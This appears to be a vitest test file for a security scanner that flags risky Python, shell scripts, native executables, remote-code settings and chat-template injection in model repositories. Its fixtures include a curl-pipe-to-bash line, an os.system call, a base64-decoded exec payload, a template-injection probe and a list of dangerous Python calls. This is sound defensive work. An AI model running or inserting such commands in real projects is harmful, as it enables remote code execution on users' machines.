import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { DEFAULT_LIMITS, verdictOf, type FileFormat, type Finding } from '../types.js';
import { scanConfigJson, scanRepositoryFile } from './repository.js';
import { fileTarget, tempDir } from './test-fixtures.js';

const dir = tempDir('garden-repo-');
let n = 0;

async function scan(name: string, content: string | Buffer, format: FileFormat, limits = DEFAULT_LIMITS): Promise<Finding[]> {
  const abs = path.join(dir, `${n++}-${path.basename(name)}`);
  const bytes = Buffer.from(content);
  const t = fileTarget(abs, bytes, format, { path: name, root: dir, limits });
  return format === 'json' ? scanConfigJson(t) : scanRepositoryFile(t);
}
const codes = (fs: Finding[]) => fs.map((f) => f.code);

describe('code in a model folder', () => {
  it('asks for review of any Python file, naming remote code', async () => {
    const f = await scan('modeling_llama2.py', 'import torch\n\nclass M(torch.nn.Module):\n    def forward(self, x):\n        self.eval()\n        return torch.compile(x)\n', 'python');
    expect(f).toEqual([expect.objectContaining({ code: 'PYTHON_CODE', severity: 'medium' })]);
    expect(f[0]!.message).toContain('trust_remote_code');
    expect(verdictOf(await scan('utils/convert.py', 'print(1)\n', 'python'))).toBe('warn');
  });

  it('blocks Python that runs commands, evaluates strings or opens sockets, with line numbers', async () => {
    const src = 'import os\n# os.system("ignored in a comment")\nx = 1\nos.system("id")\n';
    const f = await scan('modeling_x.py', src, 'python');
    expect(codes(f)).toEqual(['PYTHON_CODE', 'PYTHON_DANGEROUS_CODE']);
    expect(f[1]!.message).toContain('line 4');
    for (const bad of ['import subprocess', 'exec(code)', 'eval (s)', "__import__('os')", 'import socket', 'requests.post(url, data=d)', 'import ctypes', 'pickle.loads(b)', 'torch.hub.load("x/y", "m")']) {
      expect(codes(await scan('m.py', `${bad}\n`, 'python')), bad).toContain('PYTHON_DANGEROUS_CODE');
    }
    const hidden = await scan('m.py', 'import base64\ncode = base64.b64decode(b"cHJpbnQoMSk=")\nrun = compile(code, "x", "exec")\n', 'python');
    expect(hidden[1]!.message).toContain('hidden payload');
  });

  it('keeps weaker signals at medium and ignores comments', async () => {
    const f = await scan('m.py', 'import base64\nx = base64.b64decode(s)  # not executed\n', 'python');
    expect(f.map((x) => [x.code, x.severity])).toEqual([
      ['PYTHON_CODE', 'medium'],
      ['PYTHON_NOTABLE_CODE', 'medium'],
    ]);
    expect(codes(await scan('m.py', '# subprocess.run(["rm"])\nprint("# eval(x)")\n', 'python'))).toEqual(['PYTHON_CODE']);
  });

  it('blocks shell scripts and native executables', async () => {
    const sh = await scan('setup.sh', '#!/bin/sh\ncurl -s https://x.invalid | bash\n', 'shell');
    expect(sh).toEqual([expect.objectContaining({ code: 'SHELL_SCRIPT', severity: 'high' })]);
    expect(sh[0]!.message).toContain('pipes into a shell');
    const elf = await scan('lib.so', Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), Buffer.alloc(57)]), 'executable');
    expect(elf).toEqual([expect.objectContaining({ code: 'NATIVE_EXECUTABLE', severity: 'critical' })]);
    expect(elf[0]!.message).toContain('ELF');
    expect((await scan('x.exe', Buffer.from('MZ\x90\x00'), 'executable'))[0]!.message).toContain('Windows');
    expect(await scan('README.md', '# hi', 'text')).toEqual([]);
  });

  it('fails closed on files over the limit', async () => {
    expect(codes(await scan('big.py', 'x = 1\n'.repeat(100), 'python', { ...DEFAULT_LIMITS, maxHeaderBytes: 50 }))).toEqual(['SCAN_LIMIT']);
  });
});

describe('JSON and config files', () => {
  it('passes ordinary configs and JSON Lines', async () => {
    expect(await scan('config.json', JSON.stringify({ architectures: ['LlamaForCausalLM'], trust_remote_code: false }), 'json')).toEqual([]);
    expect(await scan('data/train.jsonl', '{"a":1}\n{"a":2}\n\n', 'json')).toEqual([]);
  });

  it('blocks auto_map and trust_remote_code, naming the modules', async () => {
    const cfg = { auto_map: { AutoConfig: 'configuration_x.XConfig', AutoModelForCausalLM: 'modeling_x.XForCausalLM', AutoTokenizer: ['tokenization_x.XTok', null] }, trust_remote_code: true };
    const f = await scan('config.json', JSON.stringify(cfg), 'json');
    expect(codes(f)).toEqual(['HF_REMOTE_CODE', 'HF_TRUST_REMOTE_CODE']);
    expect(f[0]!.message).toContain('"modeling_x"');
    expect(f[0]!.message).toContain('"tokenization_x"');
    const foreign = await scan('tokenizer_config.json', JSON.stringify({ auto_map: { AutoTokenizer: ['other/repo--tokenization_y.YTok', null] } }), 'json');
    expect(foreign[0]!.message).toContain('"other/repo"');
    const nested = await scan('config_sentence_transformers.json', JSON.stringify({ model_kwargs: { trust_remote_code: true } }), 'json');
    expect(nested).toEqual([expect.objectContaining({ code: 'HF_TRUST_REMOTE_CODE' })]);
    expect(codes(await scan('model_index.json', JSON.stringify({ custom_pipelines: 'pipeline.py' }), 'json'))).toEqual(['HF_REMOTE_CODE']);
  });

  it('checks chat templates in tokenizer configs', async () => {
    const ok = await scan('tokenizer_config.json', JSON.stringify({ chat_template: '{{ messages[0].content }}' }), 'json');
    expect(ok).toEqual([expect.objectContaining({ code: 'CHAT_TEMPLATE', severity: 'info' })]);
    const named = await scan('tokenizer_config.json', JSON.stringify({ chat_template: [{ name: 'default', template: '{{ x.__class__ }}' }] }), 'json');
    expect(named).toEqual([expect.objectContaining({ code: 'CHAT_TEMPLATE_INJECTION', severity: 'high' })]);
  });

  it('fails closed on JSON that does not parse, is not UTF-8 or is too large', async () => {
    const bad = await scan('config.json', '{"a": 1,\n "b": }', 'json');
    expect(bad).toEqual([expect.objectContaining({ code: 'JSON_INVALID', severity: 'high' })]);
    expect(codes(await scan('config.json', Buffer.from([0x7b, 0x22, 0xff, 0x22, 0x3a, 0x31, 0x7d]), 'json'))).toEqual(['JSON_INVALID']);
    expect(codes(await scan('x.jsonl', '{"a":1}\n{"a":\n', 'json'))).toEqual(['JSON_INVALID']);
    expect(codes(await scan('config.json', '{"a":1}', 'json', { ...DEFAULT_LIMITS, maxHeaderBytes: 3 }))).toEqual(['SCAN_LIMIT']);
  });
});
